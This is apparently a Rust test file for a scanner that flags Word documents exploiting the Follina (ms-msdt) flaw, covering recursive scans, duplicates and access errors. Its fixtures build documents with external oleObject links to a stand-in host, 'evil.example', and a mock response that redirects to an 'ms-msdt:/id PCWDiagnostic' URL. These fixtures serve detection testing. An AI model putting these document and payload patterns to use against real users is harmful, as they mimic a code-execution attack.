use follina_inspect::fetch::MockFetcher;
use follina_inspect::{Classification, Inspector};
use follina_scan::{ScanEvent, ScanOptions, Summary, run, scan};
use futures::StreamExt;
use std::fs::File;
use std::io::Write;
use std::path::{Path, PathBuf};
use std::sync::Arc;
use zip::write::SimpleFileOptions;

const EVIL_URL: &str = "https://evil.example/payload.html";
const DOWN_URL: &str = "http://down.example/template.html";

fn write_zip(path: &Path, entries: &[(&str, &str)]) {
    let mut zip = zip::ZipWriter::new(File::create(path).unwrap());
    let options = SimpleFileOptions::default();
    for (name, contents) in entries {
        zip.start_file(*name, options).unwrap();
        zip.write_all(contents.as_bytes()).unwrap();
    }
    zip.finish().unwrap();
}

fn document_with_target(path: &Path, target: &str) {
    let rels = format!(
        r#"<Relationships><Relationship Id="rId996" Type="oleObject" Target="{target}" TargetMode="External"/></Relationships>"#
    );
    write_zip(path, &[("word/document.xml", "<w:document/>"), ("word/_rels/document.xml.rels", rels.as_str())]);
}

fn fetcher() -> Arc<MockFetcher> {
    Arc::new(
        MockFetcher::default()
            .with_body(EVIL_URL, "<script>location.href = 'ms-msdt:/id PCWDiagnostic /skip force';</script>")
            .with_network_error(DOWN_URL, "operation timed out"),
    )
}

/// One plain text file, one zip without relationships, one infected document.
fn three_file_directory(root: &Path) -> PathBuf {
    let dir = root.join("inbox");
    std::fs::create_dir(&dir).unwrap();
    std::fs::write(dir.join("a-notes.txt"), "meeting notes").unwrap();
    write_zip(&dir.join("b-archive.zip"), &[("readme.txt", "nothing here")]);
    document_with_target(&dir.join("c-invoice.docx"), &format!("mhtml:{EVIL_URL}!x-usc:{EVIL_URL}"));
    dir
}

async fn events(inspector: &Inspector, targets: &[PathBuf], options: ScanOptions) -> Vec<ScanEvent> {
    scan(inspector, targets, options).collect().await
}

#[tokio::test]
async fn recursive_scan_of_mixed_directory() {
    let temp_dir = tempfile::tempdir().unwrap();
    let dir = three_file_directory(temp_dir.path());
    let fetcher = fetcher();
    let inspector = Inspector::new(fetcher.clone());

    let summary = run(&inspector, &[dir.clone()], ScanOptions { recursive: true }).await;

    assert_eq!(summary.scanned, 3);
    assert_eq!(summary.documents, 2);
    assert_eq!(summary.clean, 1);
    assert!(summary.suspicious.is_empty());
    assert_eq!(summary.infected, vec![dir.join("c-invoice.docx")]);
    assert_eq!(fetcher.requests().await, [EVIL_URL]);
}

#[tokio::test]
async fn classifications_in_discovery_order() {
    let temp_dir = tempfile::tempdir().unwrap();
    let dir = three_file_directory(temp_dir.path());
    let inspector = Inspector::new(fetcher());

    let events = events(&inspector, &[dir.clone()], ScanOptions { recursive: true }).await;
    let classifications: Vec<(PathBuf, Classification)> = events
        .iter()
        .filter_map(|event| match event {
            ScanEvent::Inspected(result) => Some((result.path.clone(), result.classification)),
            _ => None,
        })
        .collect();
    assert_eq!(
        classifications,
        vec![
            (dir.join("a-notes.txt"), Classification::NotApplicable),
            (dir.join("b-archive.zip"), Classification::Valid),
            (dir.join("c-invoice.docx"), Classification::Infected),
        ]
    );
    assert!(matches!(events.first(), Some(ScanEvent::Started)));
    assert!(matches!(events.last(), Some(ScanEvent::Complete(_))));
}

#[tokio::test]
async fn directory_without_recursion_is_skipped() {
    let temp_dir = tempfile::tempdir().unwrap();
    let dir = three_file_directory(temp_dir.path());
    let fetcher = fetcher();
    let inspector = Inspector::new(fetcher.clone());

    let events = events(&inspector, &[dir.clone()], ScanOptions::default()).await;
    assert!(events.iter().any(|event| matches!(event, ScanEvent::SkippedDirectory(path) if *path == dir)));
    let Some(ScanEvent::Complete(summary)) = events.last() else {
        panic!("scan did not complete");
    };
    assert_eq!(*summary, Summary::default());
    assert!(fetcher.requests().await.is_empty());
}

#[tokio::test]
async fn missing_target_does_not_stop_the_scan() {
    let temp_dir = tempfile::tempdir().unwrap();
    let missing = temp_dir.path().join("missing.docx");
    let present = temp_dir.path().join("present.docx");
    document_with_target(&present, EVIL_URL);
    let inspector = Inspector::new(fetcher());

    let events = events(&inspector, &[missing.clone(), present.clone()], ScanOptions::default()).await;
    assert!(events.iter().any(|event| matches!(
        event,
        ScanEvent::AccessError { path, message } if *path == missing && message.starts_with("no such file or directory")
    )));
    let Some(ScanEvent::Complete(summary)) = events.last() else {
        panic!("scan did not complete");
    };
    assert_eq!(summary.errors, 1);
    assert_eq!(summary.scanned, 1);
    assert_eq!(summary.infected, vec![present]);
}

#[tokio::test]
async fn file_reached_twice_is_reported_once() {
    let temp_dir = tempfile::tempdir().unwrap();
    let dir = temp_dir.path().join("shared");
    std::fs::create_dir(&dir).unwrap();
    let document = dir.join("template.docx");
    document_with_target(&document, DOWN_URL);
    let fetcher = fetcher();
    let inspector = Inspector::new(fetcher.clone());

    // Directly, through the directory, and through a non-canonical spelling.
    let targets = vec![document.clone(), dir.clone(), dir.join(".").join("template.docx")];
    let events = events(&inspector, &targets, ScanOptions { recursive: true }).await;
    let duplicates = events.iter().filter(|event| matches!(event, ScanEvent::Duplicate(_))).count();
    assert_eq!(duplicates, 2);
    let Some(ScanEvent::Complete(summary)) = events.last() else {
        panic!("scan did not complete");
    };
    assert_eq!(summary.scanned, 1);
    assert_eq!(summary.suspicious, vec![document]);
    assert_eq!(fetcher.requests().await, [DOWN_URL]);
}

#[cfg(unix)]
#[tokio::test]
async fn unreadable_subdirectory_is_reported_under_its_own_path() {
    use std::os::unix::fs::PermissionsExt;

    let temp_dir = tempfile::tempdir().unwrap();
    let dir = temp_dir.path().join("inbox");
    let locked = dir.join("locked");
    std::fs::create_dir_all(&locked).unwrap();
    document_with_target(&dir.join("open.docx"), EVIL_URL);
    std::fs::set_permissions(&locked, std::fs::Permissions::from_mode(0o000)).unwrap();
    if std::fs::read_dir(&locked).is_ok() {
        // Permissions aren't enforced for this user (root).
        std::fs::set_permissions(&locked, std::fs::Permissions::from_mode(0o755)).unwrap();
        return;
    }
    let inspector = Inspector::new(fetcher());

    let events = events(&inspector, &[dir.clone()], ScanOptions { recursive: true }).await;
    std::fs::set_permissions(&locked, std::fs::Permissions::from_mode(0o755)).unwrap();

    assert!(events.iter().any(|event| matches!(
        event,
        ScanEvent::AccessError { path, message } if *path == locked && message.starts_with("permission denied")
    )));
    let Some(ScanEvent::Complete(summary)) = events.last() else {
        panic!("scan did not complete");
    };
    assert_eq!(summary.errors, 1);
    assert_eq!(summary.infected, vec![dir.join("open.docx")]);
}
